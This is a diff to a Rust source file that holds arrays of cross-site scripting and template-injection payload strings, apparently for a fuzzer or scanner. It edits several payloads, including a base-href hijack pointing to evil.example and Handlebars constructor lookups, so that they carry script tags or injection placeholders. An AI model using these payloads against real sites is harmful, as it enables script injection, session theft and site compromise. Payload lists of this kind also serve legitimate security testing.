@@ -40,7 +40,7 @@ const ELEMENTS: [&str; 20] = [
     "<object data=\"data:text/html,<script>parent.§</script>\"></object>",
     "<link rel=stylesheet href=//evil.example/x.css onerror=§>",
     "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
-    "<base href=//evil.example/><script src=x.js></script>",
+    "<base href=//evil.example/><script src=x.js></script><script>§</script>",
     "<style>@import '//evil.example/x.css';*{background:url(//evil.example/§)}</style>",
 ];
 
@@ -71,9 +71,9 @@ const OTHERS: [&str; 24] = [
     "[x]: javascript:§",
     "```html\n<script>§</script>\n```",
     "{{{x}}}<script>§</script>",
-    "{{#each this}}{{{@root}}}{{/each}}",
-    "{{> parts/head}}",
-    "{{lookup this \"constructor\"}}",
+    "{{#each this}}{{{@root}}}{{/each}}<script>§</script>",
+    "{{> parts/head}}§",
+    "{{lookup this \"constructor\"}}§",
     "{% raw %}{{ § }}{% endraw %}",
     "${§}",
     "`${§}`",
